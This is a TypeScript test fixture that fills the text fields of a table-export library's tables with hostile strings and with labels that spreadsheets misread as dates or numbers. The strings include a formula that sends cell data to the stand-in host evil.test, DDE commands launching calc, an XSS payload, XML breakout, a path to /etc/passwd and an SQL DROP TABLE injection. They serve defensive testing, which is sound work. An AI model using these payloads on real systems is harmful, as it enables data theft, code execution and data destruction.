import { SafeTable } from '../../src/lib/protocol/safe-table';
import { makeTable } from './safe-tables';

/** Texts that do something in a spreadsheet, in XML, in HTML, on a page or in the direction of writing, if they are let. */
export const hostileTexts = [
	'=HYPERLINK("http://evil.test/?x="&A1,"x")',
	"+cmd|' /C calc'!A0",
	'@SUM(1+1)*cmd|"/C calc"!A0',
	'\t=1+1',
	'＝1+1',
	'</t></si><si><t>]]><!--&amp;&#x3d;1',
	'"><script>window.__xss=1</script><img src=x onerror=window.__xss=1>',
	'\u202e\u2066evil\u2069\u0000\u0007\u001b\ud800\ufffe',
	'${1+1} {{1+1}} %0d%0a ../../etc/passwd C:\\x',
	"'); DROP TABLE x;--"
];

/** A table of which every text that an outsider may have a hand in is hostile: labels, title, notes, caveats, sources, purpose. */
export function hostileTable(): SafeTable {
	const table = makeTable({ basedOn: null, title: hostileTexts[0] ?? '' });
	const at = (index: number): string => hostileTexts[index % hostileTexts.length] ?? '';
	return SafeTable.parse({
		...table,
		dimensions: table.dimensions.map((dimension) => ({
			...dimension,
			label: at(1),
			totalLabel: at(2),
			groups: dimension.groups.map((group, index) => ({ ...group, label: at(index) }))
		})),
		caveats: hostileTexts,
		notes: hostileTexts,
		provenance: {
			...table.provenance,
			project: at(0),
			purpose: { text: at(5), legalBasis: at(6), agreements: [at(7)], until: null },
			datasets: table.provenance.datasets.map((dataset) => ({ ...dataset, title: at(6), source: at(8) }))
		}
	});
}

/** The same with hostile codes of every group, as a lookup of one's own may have them. */
export function hostileCodes(): SafeTable {
	return withCodes(hostileTable(), (at) => `${hostileTexts[at % hostileTexts.length] ?? ''} ${at}`);
}

/** Names that a spreadsheet takes for dates, times, numbers, money or truths, if it is let. */
const mistakable = [
	'01-05',
	'1/2',
	'005',
	'5E10',
	'1.5.2020',
	'2020-01-05',
	'12:30',
	'50%',
	'TRUE',
	'1,234',
	'3 Mar',
	'(7)',
	'1 1/2'
];

/** A table whose groups are called so, by code and by label. */
export function mistakableTable(): SafeTable {
	const nameAt = (at: number): string => mistakable[at] ?? `0${at}`;
	const table = withCodes(makeTable(), nameAt);
	return SafeTable.parse({
		...table,
		dimensions: table.dimensions.map((dimension) => ({
			...dimension,
			groups: dimension.groups.map(({ code }) => ({ code, label: code }))
		}))
	});
}

function withCodes(table: SafeTable, codeAt: (at: number) => string): SafeTable {
	const codes = table.dimensions.map(({ groups }) => new Map(groups.map(({ code }, at) => [code, codeAt(at)])));
	return SafeTable.parse({
		...table,
		dimensions: table.dimensions.map((dimension) => ({
			...dimension,
			groups: dimension.groups.map((group, at) => ({ ...group, code: codeAt(at) }))
		})),
		rows: table.rows.map((row) => ({
			...row,
			groups: row.groups.map((code, at) => (code === null ? null : (codes[at]?.get(code) ?? null)))
		}))
	});
}
